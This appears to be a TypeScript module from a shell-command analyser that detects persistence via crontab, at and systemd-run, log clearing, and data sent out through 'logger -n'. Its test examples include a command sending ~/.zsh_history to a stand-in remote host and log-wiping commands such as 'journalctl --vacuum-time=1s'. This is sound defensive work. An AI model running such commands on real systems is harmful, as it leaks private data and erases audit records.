import { hasMatchingWord, joinArguments, recordMachineChange } from '../../../analysis/interpret/command-words.ts'
import { readFileSource } from '../../../analysis/interpret/data-sources.ts'
import { makeValue, readStdinText, readWordText, recordReads } from '../../../analysis/interpret/file-tool.ts'
import { readOptions } from '../../../analysis/interpret/options.ts'
import type { EffectRecorder, Program } from '../../../analysis/interpret/program.ts'
import type { ProgramSpec, SpecCallHandler } from '../../../analysis/interpret/spec.ts'
import type { DataSource } from '../../../analysis/words.ts'

/** Reads the commands of a crontab so that what they do is seen too. */
function readCrontab(text: string, recorder: EffectRecorder): void {
  for (const line of text.split('\n')) {
    const entry = /^\s*(?:@\w+|(?:[\d*/,\-a-zA-Z]+\s+){5})\s*(\S.*)$/.exec(line)
    if (entry?.[1] && !line.trim().startsWith('#')) recorder.runsShell(makeValue(entry[1], []), 'cron')
  }
}

const crontab: Program = {
  names: ['crontab', 'fcrontab'],
  read: (command, recorder) => {
    const options = readOptions(command.args, { flags: '-leriTn', values: '-ucs' })
    if (options.has('l', 'T', 'n') && !options.has('r')) return 'proven'
    if (options.has('r')) {
      const path = recorder.pathOf(`/var/spool/cron/crontabs/${options.value('u')?.text ?? recorder.facts.user}`)
      recorder.effect({ kind: 'delete-path', path, recursive: false, wipe: false, by: 'crontab -r' })
      return 'plain'
    }
    const [file] = options.operands
    const text = file ? readWordText(file, command, recorder) : readStdinText(command)
    if (file) recordReads([file], recorder)
    const certainty = options.has('e') ? 'likely' : 'certain'
    recorder.effect({ kind: 'persist', mechanism: 'cron', target: options.value('u')?.text ?? 'crontab', certainty })
    if (text !== undefined) readCrontab(text, recorder)
    return 'plain'
  },
}

/** `echo command | at 5pm`: a shell runs it later. */
const atProgram: Program = {
  names: ['at', 'batch'],
  read: (command, recorder) => {
    const { args, stdin } = command
    if (
      hasMatchingWord(command, /^-[lcV]$/) ||
      (args.length <= 2 && args[0]?.text === '-q' && stdin.kind === 'inherited')
    )
      return 'proven'
    if (hasMatchingWord(command, /^-[dr]$/))
      return recordMachineChange(
        { system: 'at', verb: 'cancel', target: args.at(-1)?.text ?? '?', family: 'job' },
        recorder,
      )
    recorder.effect({ kind: 'persist', mechanism: 'at', target: joinArguments(args) })
    const text = readStdinText(command)
    if (text !== undefined) recorder.runsShell(makeValue(text, []), 'at')
    return 'plain'
  },
}

const systemdRun: Program = {
  names: ['systemd-run'],
  read: (command, recorder) => {
    const grammar = {
      flags:
        '-qtPrGdS user system scope remain-after-exit no-block wait pty pipe quiet collect same-dir shell no-ask-password',
      values:
        '-upEMH unit property description slice service-type uid gid nice working-directory setenv on-active on-boot on-startup on-unit-active on-calendar timer-property on-unit-inactive host machine',
      stopAtOperand: true,
    }
    const options = readOptions(command.args, grammar)
    const timed = [...options.given.keys()].some((name) => name.startsWith('on-'))
    // A service of its own outlives the session; a scope, or one that is waited for, does not.
    const stays = !options.has('scope', 'wait', 'pty', 'pipe', 't', 'P', 'shell', 'S') && options.operands.length > 0
    if (timed || stays)
      recorder.effect({ kind: 'persist', mechanism: 'systemd', target: options.operands[0]?.known ?? 'timer' })
    const grade = options.operands.length > 0 ? recorder.runs(options.operands, 'systemd-run') : 'plain'
    return options.unknown.length > 0 ? 'unknown' : timed || stays || grade === 'proven' ? 'plain' : grade
  },
}

/** The file that `logger -f` puts into the log, and the machine that `-n` sends it to. */
const recordLoggerData: SpecCallHandler = ({ loose, command: { args, stdin }, recorder }) => {
  const word = loose.value('-f', '--file')
  const file = word && readFileSource(word, recorder)
  const host = loose.value('-n', '--server')?.known
  if (host === undefined) return 'plain'
  const payload: readonly DataSource[] = file
    ? [file]
    : stdin.kind === 'value'
      ? stdin.value.sources
      : args.flatMap((each) => each.sources.filter((source) => source.kind !== 'literal'))
  recorder.effect({ kind: 'send-data', host, channel: 'socket', payload })
  return 'plain'
}

export const LOG_AND_JOB_SPECS: readonly ProgramSpec[] = [
  {
    names: 'atrm',
    system: 'at',
    family: 'job',
    rules: [['*', 'cancel']],
    examples: { match: ['atrm 4'], pass: [] },
  },
  {
    names: 'journalctl dmesg',
    rules: [
      ['--vacuum-*|--relinquish-var|--setup-keys|-c|-C|-?c|-?C|-c?|-C?|--clear|--read-clear', 'weaken audit the log'],
      ['--rotate', 'maybe weaken audit the log'],
      ['--update-catalog|--cursor-file|--sync|--flush|-D|-E|--console-*', 'local'],
      ['**', 'shows'],
    ],
    examples: {
      match: ['journalctl --vacuum-time=1s', 'dmesg -C'],
      pass: ['journalctl -u web', 'dmesg -T'],
    },
  },
  {
    names: 'logrotate',
    options: '-s: --state: -m: --mail: -l: --log:',
    rules: [
      ['-d|--debug|--usage|--version', 'shows'],
      ['**', 'maybe weaken audit log rotation'],
    ],
    examples: { match: ['logrotate -s st -f app.conf'], pass: ['logrotate -d app.conf'] },
  },
  {
    names: 'logger',
    options: '-n: -f: -t: -p:',
    rules: [['**', recordLoggerData]],
    examples: { match: ['logger -n 203.0.113.9 -f ~/.zsh_history'], pass: ['logger done'] },
  },
]

export const SCHEDULE_PROGRAMS: readonly Program[] = [crontab, atProgram, systemdRun]
